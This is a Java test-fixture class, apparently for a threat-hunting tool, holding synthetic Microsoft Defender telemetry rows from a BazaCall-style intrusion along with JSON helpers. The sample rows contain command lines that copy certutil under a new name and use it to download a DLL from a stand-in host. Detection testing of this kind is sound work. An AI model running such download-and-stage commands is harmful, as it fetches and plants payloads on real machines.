@@ -1,0 +1,110 @@
+package dev.bazahunt.telemetry;
+
+/**
+ * Synthetic but realistic Defender rows from one BazaCall-style intrusion: Excel spawns cmd, cmd
+ * copies certutil under a new name, the renamed certutil drops a DLL. Inside Java text blocks a JSON
+ * backslash escape is written {@code \\\\}.
+ */
+final class DefenderTelemetrySamples {
+    static final String DEVICE_ID = "4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c";
+    static final String DROP_TIMESTAMP = "2021-07-21T09:14:03.5520871Z";
+    static final String CMD_TIMESTAMP = "2021-07-21T09:14:02.1150000Z";
+    /** When Defender received the events: a minute after they happened. */
+    static final String ENVELOPE_TIME = "2021-07-21T09:15:07.0000000Z";
+    static final String TENANT = "8a4e7c2b-51d3-4f0e-9b6a-2c9d00000000";
+
+    /** DeviceFileEvents: renamed certutil writes the downloaded payload. */
+    static final String FILE_ROW = """
+            {"Timestamp":"2021-07-21T09:14:03.5520871Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
+            "DeviceName":"fin-lt-0231.northwind.local","ActionType":"FileCreated","FileName":"mso4021.dll",\
+            "FolderPath":"C:\\\\Users\\\\Public\\\\qv7t\\\\mso4021.dll",\
+            "SHA1":"9c1e4a7b2d5f8e0a3c6b9d2e5f8a1c4b7e0d3f6a","SHA256":null,"FileSize":284672,\
+            "FileOriginUrl":null,"InitiatingProcessAccountName":"mhollis",\
+            "InitiatingProcessFileName":"qv7t.exe","InitiatingProcessFolderPath":"c:\\\\users\\\\public\\\\qv7t\\\\qv7t.exe",\
+            "InitiatingProcessVersionInfoOriginalFileName":"CertUtil.exe",\
+            "InitiatingProcessCommandLine":"qv7t.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\\\Users\\\\Public\\\\qv7t\\\\mso4021.dll",\
+            "InitiatingProcessId":9316,"InitiatingProcessCreationTime":"2021-07-21T09:14:02.8807412Z",\
+            "InitiatingProcessParentFileName":"cmd.exe","InitiatingProcessParentId":8840,\
+            "InitiatingProcessParentCreationTime":"2021-07-21T09:14:02.1150000Z",\
+            "InitiatingProcessUniqueId":281474976710812,"IsInitiatingProcessRemoteSession":false,\
+            "ReportId":20417,"MachineGroup":"Finance laptops",\
+            "AdditionalFields":"{\\"FileType\\":\\"PortableExecutable\\"}"}""";
+
+    /** DeviceProcessEvents: Excel starts cmd, which copies certutil to a new name. */
+    static final String PROCESS_ROW = """
+            {"Timestamp":"2021-07-21T09:14:02.1150000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
+            "DeviceName":"fin-lt-0231.northwind.local","ActionType":"ProcessCreated","FileName":"cmd.exe",\
+            "FolderPath":"C:\\\\Windows\\\\System32\\\\cmd.exe","ProcessId":8840,\
+            "ProcessCommandLine":"cmd.exe /c copy C:\\\\Windows\\\\System32\\\\certutil.exe C:\\\\Users\\\\Public\\\\qv7t\\\\qv7t.exe",\
+            "ProcessCreationTime":"2021-07-21T09:14:02.1150000Z","ProcessIntegrityLevel":"Medium",\
+            "ProcessTokenElevation":"TokenElevationTypeLimited","ProcessVersionInfoOriginalFileName":"Cmd.Exe",\
+            "AccountDomain":"northwind","AccountName":"mhollis",\
+            "AccountSid":"S-1-5-21-1004336348-1177238915-682003330-1107","LogonId":998877,\
+            "InitiatingProcessFileName":"EXCEL.EXE","InitiatingProcessId":5120,\
+            "InitiatingProcessCreationTime":"2021-07-21T09:13:40.6613190Z",\
+            "InitiatingProcessParentFileName":"explorer.exe","InitiatingProcessParentId":4312,\
+            "InitiatingProcessSignerType":"Microsoft","ReportId":20391,"MachineGroup":"Finance laptops"}""";
+
+    /** DeviceNetworkEvents: not a table this hunt reads. */
+    static final String NETWORK_ROW = """
+            {"Timestamp":"2021-07-21T09:14:03.2210000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
+            "ActionType":"ConnectionSuccess","RemoteUrl":"k3vd9xq0wz.top","RemoteIP":"203.0.113.77",\
+            "RemotePort":80,"InitiatingProcessFileName":"qv7t.exe","ReportId":20412}""";
+
+    private DefenderTelemetrySamples() {}
+
+    /** An Event Hubs / Storage envelope, category first as Defender writes it. */
+    static String envelope(String table, String row) {
+        return "{\"time\":\"" + ENVELOPE_TIME + "\",\"tenantId\":\"" + TENANT + "\",\"operationName\":\"Publish\","
+                + "\"category\":\"AdvancedHunting-" + table + "\",\"properties\":" + row + "}";
+    }
+
+    /** The same envelope with properties before category, which JSON allows. */
+    static String envelopeWithCategoryLast(String table, String row) {
+        return "{\"time\":\"" + ENVELOPE_TIME + "\",\"properties\":" + row + ",\"tenantId\":\"" + TENANT
+                + "\",\"category\":\"AdvancedHunting-" + table + "\"}";
+    }
+
+    /** An Event Hubs message body. */
+    static String batch(String... records) {
+        return "{\"records\":[" + String.join(",", records) + "]}";
+    }
+
+    /** A row with one column's value replaced by raw JSON, e.g. {@code withColumn(FILE_ROW, "ReportId", "\"abc\"")}. */
+    static String withColumn(String row, String column, String rawJsonValue) {
+        return "{\"" + column + "\":" + rawJsonValue + "," + without(row, column).substring(1);
+    }
+
+    /** A row without a column (the sample rows hold each column once, with flat scalar values). */
+    static String without(String row, String column) {
+        String key = "\"" + column + "\":";
+        int start = row.indexOf(key);
+        if (start < 0) {
+            return row;
+        }
+        int end = endOfValue(row, start + key.length());
+        if (row.charAt(end) == ',') {
+            return row.substring(0, start) + row.substring(end + 1);
+        }
+        return row.substring(0, start - 1) + row.substring(end); // the last column: drop the comma before it
+    }
+
+    private static int endOfValue(String row, int from) {
+        boolean inString = false;
+        for (int i = from; i < row.length(); i++) {
+            char c = row.charAt(i);
+            if (inString) {
+                if (c == '\\') {
+                    i++;
+                } else if (c == '"') {
+                    inString = false;
+                }
+            } else if (c == '"') {
+                inString = true;
+            } else if (c == ',' || c == '}') {
+                return i;
+            }
+        }
+        throw new IllegalArgumentException("no end of value in " + row);
+    }
+}
